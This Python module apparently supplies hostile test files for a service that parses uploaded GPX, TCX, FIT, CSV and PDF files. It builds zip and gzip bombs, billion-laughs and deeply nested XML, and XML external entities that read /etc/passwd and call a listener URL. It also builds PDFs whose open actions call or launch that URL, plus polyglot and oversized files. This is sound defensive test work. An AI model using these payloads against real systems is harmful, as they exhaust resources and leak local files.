"""Files made to harm whoever reads them: bombs, circles, files of two kinds, and files that would have something fetched.

A new one is a function and a line in `HOSTILE`; each says under which name it comes.
"""

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Callable

MEGABYTE = 1024 * 1024
_LARGEST = 20 * MEGABYTE

Maker = Callable[[str], bytes]
"""From the address of somebody who listens to the file."""


def _pdf(*objects: bytes) -> bytes:
    """A PDF of these objects, numbered from 1; the first is the catalogue. Its table of places is left to be rebuilt."""
    made = b"".join(b"%d 0 obj\n%s\nendobj\n" % (n, each) for n, each in enumerate(objects, 1))
    return b"%PDF-1.7\n" + made + b"trailer\n<< /Root 1 0 R /Size %d >>\n%%%%EOF\n" % (len(objects) + 1)


def _stream(content: bytes, more: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), more, content)


def _circular_pdf(_: str) -> bytes:
    return _pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R 3 0 R 2 0 R] /Count 2147483647 >>",
        b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 9 /Parent 2 0 R >>",
    )


def _thousands_of_pages(_: str) -> bytes:
    kids = b" ".join(b"3 0 R" for _ in range(100_000))
    return _pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count 100000 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] >>",
    )


def _inflating_pdf(_: str) -> bytes:
    """A page whose content is 300 MB of text once it is inflated."""
    deflating = zlib.compressobj(9)
    piece = b"BT /F1 9 Tf 10 10 Td (AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA) Tj ET\n" * 16_000
    packed = b"".join(deflating.compress(piece) for _ in range(300)) + deflating.flush()
    return _pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
        _stream(packed, b"/Filter /FlateDecode"),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    )


def _vast_pdf(_: str) -> bytes:
    """A page without text of ten million points a side: to be drawn."""
    return _pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10000000 10000000] >>",
    )


def _calling_pdf(url: str) -> bytes:
    address = url.encode()
    return _pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (" + address + b") >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /AA << /O << /S /Launch /F ("
        + address
        + b") >> >> >>",
        b"<< /Length 0 /F << /FS /URL /F (" + address + b") >> >>\nstream\n\nendstream",
    )


def _laughing_xml(_: str) -> bytes:
    entities = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    return f'<?xml version="1.0"?><!DOCTYPE gpx [<!ENTITY a0 "ha">{entities}]><gpx>&a11;</gpx>'.encode()


def _calling_xml(url: str) -> bytes:
    return (
        f'<?xml version="1.0"?><!DOCTYPE gpx SYSTEM "{url}/a.dtd" [<!ENTITY x SYSTEM "{url}/x"><!ENTITY f SYSTEM "file:///etc/passwd">]>'
        "<gpx><trk><name>&x;&f;</name></trk></gpx>"
    ).encode()


def _deep_xml(_: str) -> bytes:
    return b'<gpx version="1.1">' + b"<trk>" * 1_000_000 + b"</trk>" * 1_000_000 + b"</gpx>"


def _large_gpx(_: str) -> bytes:
    point = b'<trkpt lat="1.5" lon="2"><time>2026-01-01T00:00:00Z</time></trkpt>'
    return b'<gpx version="1.1"><trk><trkseg>' + point * ((_LARGEST - 100) // len(point)) + b"</trkseg></trk></gpx>"


def _large_tcx(_: str) -> bytes:
    lap = b"<Lap><TotalTimeSeconds>1</TotalTimeSeconds></Lap>"
    whole = lap * ((_LARGEST - 100) // len(lap))
    return (
        b"<TrainingCenterDatabase><Activity Sport='Running'><Id>x</Id>"
        + whole
        + b"</Activity></TrainingCenterDatabase>"
    )


def _gzip_bomb(_: str) -> bytes:
    deflating = zlib.compressobj(1, wbits=31)
    return b"".join(deflating.compress(bytes(MEGABYTE)) for _ in range(600)) + deflating.flush()


def _zip_bomb(_: str) -> bytes:
    made = io.BytesIO()
    with (
        zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open("a.gpx", "w") as member,
    ):
        for _n in range(600):
            member.write(bytes(MEGABYTE))
    return made.getvalue()


def _lying_fit(_: str) -> bytes:
    """A header that promises four gigabytes, and one field of 255 bytes defined again and again."""
    header = struct.pack("<BBHI4s", 12, 0x20, 2132, 0xFFFFFFFF, b".FIT")
    definition = b"\x40\x00\x00\x14\x00\xff" + b"\xfd\xff\x07" * 255
    return header + definition * 20_000


def _long_fit(_: str) -> bytes:
    """As many records as fit in."""
    header = struct.pack("<BBHI4s", 12, 0x20, 2132, 0xFFFFFFFF, b".FIT")
    return header + b"\x40\x00\x00\x14\x00\x01\xfd\x04\x86" + b"\x00\x01\x02\x03\x04" * ((_LARGEST - 100) // 5)


def _pdf_that_is_a_zip(url: str) -> bytes:
    made = io.BytesIO(_calling_pdf(url))
    made.seek(0, io.SEEK_END)
    with zipfile.ZipFile(made, "a") as archive:
        archive.writestr("a.gpx", _calling_xml(url))
    return made.getvalue()


def _page_that_is_a_gpx(url: str) -> bytes:
    return f"<html><script src='{url}'></script><gpx version='1.1'></gpx></html>".encode()


def _program(_: str) -> bytes:
    return b"MZ" + bytes(6) + b".FIT" + b"\x7fELF" * 50_000


def _one_long_line(_: str) -> bytes:
    return b"Date,Description,Amount\n" + b"2026-01-01," * ((_LARGEST - 100) // 11)


def _one_open_quote(_: str) -> bytes:
    return b'Date,Description,Amount\n2026-01-01,"' + b"a\n" * ((_LARGEST - 100) // 2)


HOSTILE: dict[str, tuple[str, Maker]] = {
    "circular pages": ("a.pdf", _circular_pdf),
    "100,000 pages": ("a.pdf", _thousands_of_pages),
    "a page that inflates": ("a.pdf", _inflating_pdf),
    "a page ten million points wide": ("a.pdf", _vast_pdf),
    "a PDF that would call": ("a.pdf", _calling_pdf),
    "entities within entities": ("a.gpx", _laughing_xml),
    "entities from elsewhere": ("a.gpx", _calling_xml),
    "elements a million deep": ("a.gpx", _deep_xml),
    "20 MB of points": ("a.gpx", _large_gpx),
    "20 MB of laps": ("a.tcx", _large_tcx),
    "a gzip bomb": ("a.gpx.gz", _gzip_bomb),
    "a zip bomb": ("a.zip", _zip_bomb),
    "a FIT that lies": ("a.fit", _lying_fit),
    "20 MB of records": ("a.fit", _long_fit),
    "a PDF that is a zip": ("a.zip", _pdf_that_is_a_zip),
    "a page that is a GPX": ("a.gpx", _page_that_is_a_gpx),
    "a program that is a FIT": ("a.fit", _program),
    "20 MB in a line": ("a.csv", _one_long_line),
    "a quote that never ends": ("a.csv", _one_open_quote),
    "nothing but a packed nothing": ("a.gpx.gz", lambda _: gzip.compress(b"")),
    "a byte too many": ("a.gpx", lambda _: bytes(_LARGEST + 1)),
}

SLOW = frozenset({"a FIT that lies", "20 MB of points", "20 MB of records"})
"""Those that use all the time they are given."""
